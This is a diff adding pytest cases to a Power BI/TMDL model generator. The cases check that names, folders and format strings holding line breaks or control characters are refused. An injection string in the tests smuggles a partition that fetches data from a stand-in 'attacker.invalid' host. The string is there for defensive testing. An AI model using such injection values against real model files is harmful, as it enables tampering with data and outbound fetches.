@@ -3,12 +3,16 @@ huge values. Each is refused with one sentence naming the file and line, and not
 
 from __future__ import annotations
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from test_measure_specs import TICKETS, edit, line_of, single
+from test_measure_specs import TICKETS, edit, line_of, problems, single
 
 from generator.errors import EXIT_BAD_INPUT
+from generator.powerbi.semantic import m_text, semantic_model
+from generator.powerbi.tmdl import TmdlTextError, definition_files, table_file, tmdl_name
+from generator.spec.loader import load_model
 
 BACKLOG_DESCRIPTION = "    description: Tickets opened minus tickets closed.\n"
 
@@ -53,9 +57,78 @@ def test_templates_see_only_the_variables(spec_copy: Path, template: str, fragme
 
 
 def test_templates_still_do_arithmetic_and_simple_filters(spec_copy: Path) -> None:
-    from generator.spec.loader import load_model
-
     edit(spec_copy, TICKETS, BACKLOG_DESCRIPTION,
          '    description: "Backlog ({{ (target_happy_pct * 100) | round(1) }} % target, {{ 2 ** 10 }})."\n')
     measure = load_model(spec_copy).measure("Tickets - Backlog Change")
     assert measure.description == "Backlog (90.0 % target, 1024)."
+
+
+# ------------------------------------------------------------------- text cannot write its own TMDL lines
+
+INJECTED = '\\n\\n\\tpartition Evil = m\\n\\t\\tsource = Web.Contents(\\"http://attacker.invalid\\")'
+BACKLOG_FORMAT = "    right: Tickets - Closed\n    format: whole\n"
+
+
+@pytest.mark.parametrize(("old", "new", "fragment"), [
+    (BACKLOG_FORMAT, f'    right: Tickets - Closed\n    format: whole\n    folder: "Tickets{INJECTED}"\n',
+     "the 'folder' of measure 'Tickets - Backlog Change' holds a new line (U+000A)"),
+    (BACKLOG_FORMAT, f'    right: Tickets - Closed\n    format: "#,0{INJECTED}"\n',
+     "the 'format' of measure 'Tickets - Backlog Change' holds a new line (U+000A)"),
+    (BACKLOG_FORMAT, '    right: Tickets - Closed\n    format: whole\n    folder: \'Tickets{{ "\\r" }}\'\n',
+     "renders text holding a carriage return (U+000D)"),
+    ("  - name: Tickets - Backlog Change\n", f'  - name: "Tickets - Backlog Change{INJECTED}"\n',
+     "holds a control character"),
+    ("  folder: Tickets\n", f'  folder: "Tickets{INJECTED}"\n', "the default 'folder' holds a new line"),
+])
+def test_a_line_break_in_a_measure_name_folder_or_format_is_refused(spec_copy: Path, tmp_path: Path, cli,
+                                                                     old: str, new: str, fragment: str) -> None:
+    edit(spec_copy, TICKETS, old, new)
+    line = line_of(spec_copy, TICKETS, "Evil" if "Evil" in new else "{{")
+    result = cli("build", "--specs", str(spec_copy), "--out", str(tmp_path / "out"))
+    assert result.code == EXIT_BAD_INPUT, result
+    error = one_error_line(result.err)
+    assert error.startswith(f"error: {TICKETS}:{line}: ") and fragment in error, error
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(("file", "old", "new", "fragment"), [
+    ("model/autotask.yaml", "  - name: BI_Autotask_Queues\n", '  - name: "BI_Autotask_Queues\\n"\n',
+     "table name 'BI_Autotask_Queues\\n' must be letters, digits and underscores"),
+    ("model/autotask.yaml", "{name: client_since, type: date, format: yyyy-mm-dd,",
+     f'{{name: client_since, type: date, format: "yyyy-mm-dd{INJECTED}",',
+     "the 'format' of column 'BI_Autotask_Companies[client_since]' holds a new line"),
+    ("model/security.yaml", "  - name: Client\n", '  - name: "Client\\n"\n', "role name"),
+    ("model/security.yaml", "    description: >-\n      A client's users",
+     '    description: "A client\\u2028"\n    x_description: >-\n      A client\'s users',
+     "the text holds a line separator (U+2028)"),
+])
+def test_a_line_break_in_a_model_name_or_format_is_refused(spec_copy: Path, file: str, old: str, new: str,
+                                                            fragment: str) -> None:
+    edit(spec_copy, file, old, new)
+    found = [p for p in problems(spec_copy) if p.startswith(f"{file}:")]
+    assert found and fragment in found[0], found
+    first_line = new.split("\n")[0].strip()
+    assert found[0].startswith(f"{file}:{line_of(spec_copy, file, first_line)}: "), found
+
+
+def test_the_tmdl_writer_refuses_text_that_would_break_its_line(spec_copy: Path) -> None:
+    model = load_model(spec_copy)
+    measure = model.measures[0]
+    hostile = replace(model, measures=(replace(measure, folder="Tickets\n\tpartition Evil = m"),
+                                       *model.measures[1:]))
+    with pytest.raises(TmdlTextError, match=r"holds a new line \(U\+000A\)"):
+        definition_files(semantic_model(hostile))
+    assert "displayFolder: Tickets" in table_file({"name": "T", "measures": [
+        {"name": "M", "expression": "1", "displayFolder": "Tickets"}]})
+    for text in ("a\rb", "a\x85b", "a\u2029b", "a\x00b"):
+        with pytest.raises(TmdlTextError):
+            table_file({"name": "T", "description": "fine", "measures": [
+                {"name": "M", "expression": "1", "formatString": text}]})
+        with pytest.raises(TmdlTextError):
+            tmdl_name(text)
+    assert tmdl_name("a\tb") == "'a\tb'"
+
+
+def test_m_text_literals_escape_quotes_escapes_and_control_characters() -> None:
+    assert m_text('BI_Date') == '"BI_Date"'
+    assert m_text('say "hi" #(lf)\r\n\x07') == '"say ""hi"" #(#)(lf)#(cr)#(lf)#(0007)"'
